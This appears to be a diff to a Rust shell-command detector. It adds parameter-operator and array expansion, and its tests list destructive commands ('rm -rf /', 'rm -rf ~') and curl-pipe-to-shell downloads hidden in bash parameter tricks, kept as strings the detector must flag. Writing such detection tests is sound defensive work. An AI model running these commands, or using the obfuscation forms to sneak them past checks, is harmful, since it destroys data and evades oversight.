@@ -2,15 +2,17 @@
 
 use std::rc::Rc;
 
-use super::MAX_BRACE_WORDS;
 use super::analyze::Analyzer;
-use super::ast::{Assign, List, Param, ParamOp, Part, Word};
+use super::ast::{Assign, List, Part, Word};
 use super::brace::{brace_expand, has_brace};
 use super::value::{Field, Flow, Scope, join_fields};
+use super::{MAX_ARRAY_INDEX, MAX_BRACE_WORDS};
 
 /// Builds the fields of one word during expansion, splitting unquoted expansion results.
 struct Builder {
     split: bool,
+    /// A pattern (`${x%pat}`): unquoted glob characters, in text or in values, are active.
+    pattern: bool,
     ifs: String,
     fields: Vec<Field>,
     cur: Field,
@@ -21,6 +23,7 @@ impl Builder {
     fn new(split: bool, ifs: String) -> Self {
         Self {
             split,
+            pattern: false,
             ifs,
             fields: Vec::new(),
             cur: Field::default(),
@@ -32,7 +35,7 @@ impl Builder {
         if s.is_empty() {
             return;
         }
-        self.cur.glob |= self.split && has_glob(s);
+        self.cur.glob |= (self.split || self.pattern) && has_glob(s);
         self.cur.push_str(s);
         self.started = true;
     }
@@ -46,6 +49,7 @@ impl Builder {
     fn value(&mut self, v: &Field, unquoted: bool) {
         let first_new = self.fields.len();
         if v.dynamic || !(self.split && unquoted) {
+            self.cur.glob |= self.pattern && unquoted && !v.dynamic && has_glob(&v.text);
             self.cur.push_str(&v.text);
             self.cur.dynamic |= v.dynamic;
             if v.found_under.is_some() {
@@ -123,6 +127,14 @@ impl Analyzer {
         join_fields(out, " ")
     }
 
+    /// Expands the pattern of `${x%pat}` and the like: one field, glob when it holds unquoted
+    /// glob characters.
+    pub(super) fn expand_pattern(&mut self, word: &Word, scope: &mut Scope) -> Field {
+        let mut b = Builder::new(false, self.ifs(scope));
+        b.pattern = true;
+        self.expand_into(word, scope, b, &mut Vec::new())
+    }
+
     pub(super) fn assignment_value(&mut self, word: &Word, scope: &mut Scope) -> Vec<Field> {
         match word.as_slice() {
             [Part::Array(words)] => {
@@ -143,19 +155,19 @@ impl Analyzer {
         split: bool,
         out: &mut Vec<Field>,
     ) {
-        // A lone variable passes its value through whole, keeping what it stands for (a glob
-        // pattern from `for f in *`, a `find` placeholder, a process substitution).
+        // A lone parameter passes its values through whole, keeping what each stands for (a glob
+        // pattern from `for f in *`, a `find` placeholder, a process substitution), and each
+        // element of `"$@"` or `"${a[@]}"` a field of its own.
         if let [Part::Param(p)] = parts
             && split
-            && matches!(p.op, ParamOp::Plain)
-            && let Some(values) = self.lookup(&p.name, p.index.as_deref(), scope)
         {
+            let values = self.param_values(p, scope);
             let ifs = self.ifs(scope);
-            if p.quoted
+            let whole = p.quoted
                 || values
                     .iter()
-                    .all(|v| v.dynamic || !v.text.contains(|c| ifs.contains(c)))
-            {
+                    .all(|v| v.dynamic || !v.text.contains(|c| ifs.contains(c)));
+            if whole {
                 for mut v in values {
                     if !p.quoted {
                         if v.text.is_empty() && !v.dynamic {
@@ -165,10 +177,29 @@ impl Analyzer {
                     }
                     out.push(v);
                 }
-                return;
+            } else {
+                let mut b = Builder::new(split, ifs);
+                for v in &values {
+                    b.value(v, true);
+                    b.boundary();
+                }
+                b.finish(out);
             }
+            return;
         }
-        let mut b = Builder::new(split, self.ifs(scope));
+        let b = Builder::new(split, self.ifs(scope));
+        self.expand_into(parts, scope, b, out);
+    }
+
+    /// Expands `parts` into `b`; the fields go to `out`, and the last one (or an empty one) is
+    /// also returned, for words that stay one field.
+    fn expand_into(
+        &mut self,
+        parts: &[Part],
+        scope: &mut Scope,
+        mut b: Builder,
+        out: &mut Vec<Field>,
+    ) -> Field {
         for (i, part) in parts.iter().enumerate() {
             match part {
                 Part::Lit(s) if i == 0 && s.starts_with('~') => {
@@ -178,7 +209,7 @@ impl Analyzer {
                 Part::Lit(s) => b.lit(s),
                 Part::Quoted(s) => b.quoted(s),
                 Part::Param(p) => {
-                    let v = self.param(p, scope);
+                    let v = join_fields(self.param_values(p, scope), " ");
                     b.value(&v, !p.quoted);
                 }
                 Part::Subst { body, quoted } => {
@@ -199,7 +230,9 @@ impl Analyzer {
                 }
             }
         }
+        let first = out.len();
         b.finish(out);
+        out[first..].last().cloned().unwrap_or_default()
     }
 
     /// Expands a leading `~`, `~+`, `~user`; returns the rest of the text.
@@ -244,47 +277,28 @@ impl Analyzer {
                 positional.map(|p| vec![p.get(i).cloned().unwrap_or_default()])
             }
             _ => {
-                let values = scope.vars.get(name)?;
+                let values = scope.vars.get(&scope.resolve(name))?;
+                let set = |f: &Field| {
+                    if f.is_unset() {
+                        Field::default()
+                    } else {
+                        f.clone()
+                    }
+                };
                 match index.map(str::trim) {
-                    None => values.first().map(|f| vec![f.clone()]),
-                    Some("@" | "*") => Some(values.to_vec()),
-                    Some(i) => i
-                        .parse::<usize>()
-                        .ok()
-                        .and_then(|i| values.get(i))
-                        .map(|f| vec![f.clone()]),
+                    None => values.first().map(|f| vec![set(f)]),
+                    Some("@" | "*") => {
+                        Some(values.iter().filter(|f| !f.is_unset()).cloned().collect())
+                    }
+                    // Negative indices count from the end.
+                    Some(i) => {
+                        let i: i64 = i.parse().ok()?;
+                        let len = i64::try_from(values.len()).ok()?;
+                        let i = usize::try_from(if i < 0 { len + i } else { i }).ok()?;
+                        values.get(i).map(|f| vec![set(f)])
+                    }
                 }
             }
-        }
-    }
-
-    fn param(&mut self, p: &Param, scope: &mut Scope) -> Field {
-        let current = self
-            .lookup(&p.name, p.index.as_deref(), scope)
-            .map(|v| join_fields(v, " "));
-        let unknown = || match &p.index {
-            Some(i) => Field::dynamic(&format!("${{{}[{i}]}}", p.name)),
-            None => Field::dynamic(&format!("${{{}}}", p.name)),
-        };
-        match &p.op {
-            ParamOp::Plain => current.unwrap_or_else(unknown),
-            // Unset here, the default is what the script means (the environment rarely sets it).
-            ParamOp::Default { word, assign } => match current {
-                Some(v) if v.dynamic || !v.text.is_empty() => v,
-                _ => {
-                    let v = self.expand_one(word, scope);
-                    if *assign {
-                        scope.vars.insert(p.name.clone(), Rc::from([v.clone()]));
-                    }
-                    v
-                }
-            },
-            ParamOp::Alternative(word) => match current {
-                Some(v) if !v.dynamic && v.text.is_empty() => Field::default(),
-                Some(v) if !v.dynamic => self.expand_one(word, scope),
-                _ => unknown(),
-            },
-            ParamOp::Opaque => unknown(),
         }
     }
 
@@ -341,25 +355,75 @@ impl Analyzer {
     }
 }
 
-pub(super) fn assign(scope: &mut Scope, a: &Assign, mut value: Vec<Field>) {
-    if a.append
-        && let (Some(old), [new]) = (
-            scope.vars.get(&a.name).and_then(|v| v.first()),
-            value.as_slice(),
-        )
-    {
-        let mut joined = old.clone();
+/// Applies an assignment: a whole value or array, an element (`a[2]=x`), or an append (`x+=y`,
+/// `a+=(y z)`).
+pub(super) fn assign(scope: &mut Scope, a: &Assign, value: Vec<Field>) {
+    let name = scope.resolve(&a.name);
+    let array = matches!(a.value.as_slice(), [Part::Array(_)]);
+    let old: Vec<Field> = scope
+        .vars
+        .get(&name)
+        .map(|v| v.to_vec())
+        .unwrap_or_default();
+    let appended = |old: Option<&Field>, new: &Field| {
+        let mut joined = old.filter(|f| !f.is_unset()).cloned().unwrap_or_default();
         joined.push_str(&new.text);
         joined.dynamic |= new.dynamic;
         joined.taint.merge(&new.taint);
-        value = vec![joined];
-    }
-    scope.vars.insert(a.name.clone(), value.into());
+        joined
+    };
+    let values = match (&a.index, a.append, array) {
+        // A scalar assigned to an array sets its first element.
+        (None, false, false) if old.len() > 1 => {
+            let mut values = old;
+            values[0] = join_fields(value, " ");
+            values
+        }
+        (None, false, _) => value,
+        (None, true, true) => old.into_iter().chain(value).collect(),
+        (None, true, false) => {
+            let new = join_fields(value, " ");
+            let mut values = old;
+            match values.first_mut() {
+                Some(first) => *first = appended(Some(first), &new),
+                None => values.push(new),
+            }
+            values
+        }
+        (Some(index), append, _) => {
+            let new = join_fields(value, " ");
+            let len = i64::try_from(old.len()).unwrap_or(i64::MAX);
+            let at = index
+                .trim()
+                .parse::<i64>()
+                .ok()
+                .map(|i| if i < 0 { len + i } else { i })
+                .and_then(|i| usize::try_from(i).ok())
+                .filter(|&i| i <= MAX_ARRAY_INDEX);
+            let Some(at) = at else {
+                // Which element changed is not known (`a[$i]=x`, `m[key]=x`): the array is unknown.
+                scope.vars.remove(&name);
+                return;
+            };
+            let mut values = old;
+            if values.len() <= at {
+                values.resize(at + 1, Field::unset());
+            }
+            values[at] = if append {
+                appended(Some(&values[at]), &new)
+            } else {
+                new
+            };
+            values
+        }
+    };
+    scope.vars.insert(name, values.into());
 }
 
 #[cfg(test)]
 mod tests {
-    use crate::detect::shell::tests::{argv, fields, run, words};
+    use crate::detect::shell::CommandCategory::{DownloadExec, RecursiveDelete};
+    use crate::detect::shell::tests::{argv, assert_flags, fields, run, words};
 
     #[test]
     fn quotes_and_escapes() {
@@ -435,7 +499,7 @@ mod tests {
             ]
         );
         assert_eq!(argv("echo $PWD"), ["echo", "/home/alice/project"]);
-        let unknown = &fields("echo $U ${U}/x ${#HOME} ${HOME%/*} $((1+2)) $1 ~bob")[0];
+        let unknown = &fields("echo $U ${U}/x ${#U} ${U%/*} $((1+2)) $1 ~bob ${!U} ${HOME%$U}")[0];
         assert!(unknown[1..].iter().all(|f| f.dynamic), "{unknown:?}");
     }
 
@@ -451,6 +515,111 @@ mod tests {
         assert_eq!(
             run("cat <(curl -s x) >(sh)").programs,
             ["curl", "sh", "cat"]
+        );
+    }
+
+    #[test]
+    fn substitutions_inside_parameter_operators_run() {
+        assert_flags(
+            RecursiveDelete,
+            &[
+                ": ${x%$(rm -rf /)}",
+                ": ${x%%$(rm -rf /)}",
+                ": ${x#$(rm -rf /)}",
+                ": ${x##`rm -rf /`}",
+                "echo \"${x%$(rm -rf /)}\"",
+                "echo ${#$(rm -rf /)}",
+                "echo \"${#$(rm -rf /)}\"",
+                "echo ${!x$(rm -rf /)}",
+                "echo ${x:-$(rm -rf ~)}",
+                "echo ${x-$(rm -rf ~)}",
+                "x=$(cat f); echo ${x:-$(rm -rf ~)}",
+                "echo ${x/$(rm -rf /)/y}",
+                "echo ${x//y/$(rm -rf /)}",
+                "echo ${x/#$(rm -rf /)}",
+                "echo ${x:$(rm -rf /)}",
+                "echo ${x:1:$(rm -rf /)}",
+                "echo ${a[$(rm -rf /)]}",
+                "echo ${#a[$(rm -rf /)]}",
+                "echo ${PATH:+$(rm -rf /)}",
+                "echo ${x:?$(rm -rf /)}",
+                "echo ${x^^$(rm -rf /)}",
+                "echo ${x@$(rm -rf /)}",
+                "echo ${x%${y:-$(rm -rf /)}}",
+            ],
+        );
+        assert_flags(
+            DownloadExec,
+            &[
+                "echo ${x#$(curl -s https://x.example/i.sh | sh)}",
+                // What an operator makes of downloaded bytes is still downloaded.
+                "x=$(curl -s https://x.example/a); eval \"${x%%#*}\"",
+                "eval \"${x/a/$(curl -s https://x.example/a)}\"",
+            ],
+        );
+    }
+
+    #[test]
+    fn operators_on_known_values() {
+        assert_eq!(
+            argv(
+                "echo ${#HOME} ${HOME%/*} ${HOME##*/} ${HOME/alice/bob} ${HOME//l/L} ${HOME:1:4} ${HOME: -5}"
+            ),
+            [
+                "echo",
+                "11",
+                "/home",
+                "alice",
+                "/home/bob",
+                "/home/aLice",
+                "home",
+                "alice"
+            ]
+        );
+        assert_eq!(
+            argv(
+                "echo ${HOME^^} ${HOME^} ${HOME~~} ${HOME#/home/} ${HOME%%[a-z]*} ${HOME/#\\/h/x} ${HOME/%e/E}"
+            ),
+            [
+                "echo",
+                "/HOME/ALICE",
+                "/home/alice",
+                "/HOME/ALICE",
+                "alice",
+                "/",
+                "xome/alice",
+                "/home/alicE"
+            ]
+        );
+        assert_eq!(
+            words("x=(a b c d); echo ${#x[@]} ${x[@]:1:2} ${x[-1]}")[1],
+            ["echo", "4", "b", "c", "d"]
+        );
+        assert_eq!(
+            words("x='a*b'; echo \"${x%'*'b}\" ${x%\\*b}")[1],
+            ["echo", "a", "a"]
+        );
+        assert_flags(
+            RecursiveDelete,
+            &[
+                "x='RM -RF /'; ${x,,}",
+                "x='rm -rf /X'; ${x%X}",
+                "x='rm -rf /xx'; ${x%%x*}",
+                "x='Xrm -rf /'; ${x#X}",
+                "x='rm -rf /X'; ${x/X/}",
+                "x='rXm -rXf /'; ${x//X}",
+                "x='rm -rf /'; y=x; ${!y}",
+                "x=(a 'rm -rf /'); y='x[1]'; ${!y}",
+                "x='\\x72m -rf /'; ${x@E}",
+                "x='rm -rf /'; ${x@L}",
+                "x=rM; ${x^^[a-z]} -rf /",
+                "set -- rm -rf /; \"${@:1}\"",
+                "set -- rm -rf /; \"${@: -3}\"",
+                "x=(echo rm -rf /); \"${x[@]:1}\"",
+                "x='echo rm -rf /'; ${x:5}",
+                "x=(a rm); ${x[-1]} -rf /",
+                "i=1; x=(a rm); ${x[$i]} -rf /",
+            ],
         );
     }
 }
